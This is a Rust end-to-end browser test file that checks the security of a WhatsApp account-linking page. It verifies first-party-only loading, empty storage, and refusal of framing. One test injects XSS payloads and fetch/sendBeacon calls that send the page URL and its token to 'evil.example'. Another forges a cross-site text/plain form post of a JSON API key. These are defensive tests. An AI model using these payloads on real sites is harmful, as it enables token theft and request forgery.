//! The link page as an attacker's browser sees it: what it loads, tells and lets itself be made to do.

use e2e::{MARCIA, Scene};
use serde_json::{Value, json};

use crate::begin;
use crate::chromium::Chromium;
use crate::pages::{log_in_on_link_page, screen};

fn texts(list: &Value) -> Vec<&str> {
    let list = list.as_array().into_iter().flatten();
    list.filter_map(Value::as_str).collect()
}

async fn page(scene: &Scene) -> String {
    let token = scene.link_token(&format!("whatsapp:{MARCIA}")).await;
    scene.url(&format!("/link/{token}"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_page_fetches_nothing_from_anybody_else_and_keeps_nothing() {
    let (scene, browser) = (begin().await, Chromium::start().await);
    browser.open(&page(&scene).await).await;
    log_in_on_link_page(&browser, MARCIA).await;
    screen(&browser, "Last step: send this code in WhatsApp").await;
    let fetched = "return performance.getEntriesByType('resource').map((entry) => entry.name)";
    let fetched = browser.read(fetched).await;
    let fetched = texts(&fetched);
    let ours = scene.url("/");
    assert!(fetched.len() > 3, "{fetched:?}");
    assert!(
        fetched.iter().all(|url| url.starts_with(&ours)),
        "{fetched:?}"
    );
    // The token goes to its own route, and in no other address.
    let token = page_token(&browser).await;
    let told = fetched.iter().filter(|url| url.contains(&token));
    assert!(
        told.clone().all(|url| url.ends_with("/credential")),
        "{told:?}"
    );
    let kept = "return [document.cookie.length, localStorage.length, sessionStorage.length]";
    assert_eq!(browser.read(kept).await, json!([0, 0, 0]));
    let leads = "return [...document.querySelectorAll('a')].filter((a) => a.origin !== origin).map((a) => a.rel)";
    let leads = browser.read(leads).await;
    assert_eq!(
        texts(&leads),
        ["noreferrer"],
        "only WhatsApp, and it is not told from where"
    );
}

async fn page_token(browser: &Chromium) -> String {
    let token = browser.read("return location.pathname.split('/')[2]").await;
    token.as_str().unwrap_or_default().to_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_is_put_into_the_page_neither_runs_nor_tells() {
    let (scene, browser) = (begin().await, Chromium::start().await);
    browser.open(&page(&scene).await).await;
    screen(&browser, "Link Flash to WhatsApp").await;
    let attack = "
        window.refused = [];
        document.addEventListener('securitypolicyviolation', (event) => window.refused.push(event.effectiveDirective));
        document.body.insertAdjacentHTML('beforeend', `
          <img src='https://evil.example/x' onerror='window.ran = 1'><form action='https://evil.example/'></form>
          <a href='javascript:window.ran = 1' id='lure'>x</a><iframe src='https://evil.example/'></iframe>
          <link rel='stylesheet' href='https://evil.example/x.css'><base href='https://evil.example/'>`);
        const script = document.createElement('script');
        script.textContent = 'window.ran = 1';
        document.body.append(script);
        const outside = document.createElement('script');
        outside.src = 'https://evil.example/x.js';
        document.body.append(outside);
        document.getElementById('lure').click();
        document.forms[0].submit();
        fetch('https://evil.example/', {method: 'POST', body: location.href}).catch(() => {});
        navigator.sendBeacon('https://evil.example/', location.href);
        return true";
    browser.read(attack).await;
    let expected = [
        "base-uri",
        "connect-src",
        "form-action",
        "frame-src",
        "img-src",
        "script-src-attr",
        "script-src-elem",
        "style-src-elem",
    ];
    browser
        .until("everything is refused", async || {
            let refused = browser.read("return window.refused").await;
            let refused = texts(&refused);
            expected
                .iter()
                .all(|what| refused.contains(what))
                .then_some(())
        })
        .await;
    assert_eq!(
        browser.read("return window.ran ?? 'nothing'").await,
        "nothing"
    );
}

/// A page of somebody else's, at an address of its own.
async fn elsewhere(html: String) -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let page = axum::Router::new().fallback(move || async move { axum::response::Html(html) });
    tokio::spawn(async move { axum::serve(listener, page).await });
    format!("http://{address}/")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_elsewhere_can_neither_frame_the_page_nor_post_in_its_place() {
    let (scene, browser) = (begin().await, Chromium::start().await);
    let page = page(&scene).await;
    let frame = elsewhere(format!("<iframe src='{page}'></iframe>")).await;
    browser.open(&frame).await;
    browser
        .until("the frame is refused", async || {
            let complaints = browser.complaints().await;
            let refused = |text: &String| text.contains("frame-ancestors");
            complaints.iter().any(refused).then_some(())
        })
        .await;
    let form = format!(
        "<form method=post enctype=text/plain action='{page}/credential'><input name='{{\"api_key\":\"x' value='\"}}'></form>
         <script>document.forms[0].submit()</script>"
    );
    browser.open(&elsewhere(form).await).await;
    browser
        .until("the post is refused", async || {
            let shown = browser.text_of("body").await;
            shown.contains("403").then_some(())
        })
        .await;
    assert_eq!(scene.table("codes").await, Vec::<Value>::new());
}
